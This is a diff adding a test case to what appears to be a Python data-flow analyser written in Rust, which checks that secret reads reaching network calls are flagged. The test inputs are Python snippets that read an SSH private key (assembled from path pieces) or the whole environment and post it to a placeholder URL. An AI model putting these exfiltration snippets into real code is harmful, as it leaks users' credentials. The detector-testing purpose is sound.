@@ -114,6 +114,13 @@ fn flows_reach_sinks() {
     let c = calls(src);
     let post = c.iter().find(|c| c.0 == "requests.post").unwrap();
     assert_ne!(post.2 & ferret_python::flow::SECRET, 0, "{c:?}");
+    // A path named in pieces, each shorter than any secret path: the arguments are asked
+    // together (a length bound per piece would skip them).
+    assert_eq!(flows().secret_min_len(), 8);
+    let src = "import os, requests\ndef f(home):\n    d = open(os.path.join(home, '.ssh', 'id_rsa')).read()\n    requests.post('http://x', data=d)\n";
+    let c = calls(src);
+    let post = c.iter().find(|c| c.0 == "requests.post").unwrap();
+    assert_ne!(post.2 & ferret_python::flow::SECRET, 0, "{c:?}");
     let c = calls("import os, requests\nrequests.post('u', json=dict(os.environ))");
     let post = c.iter().find(|c| c.0 == "requests.post").unwrap();
     assert_ne!(post.2 & ferret_python::flow::ENV, 0, "{c:?}");
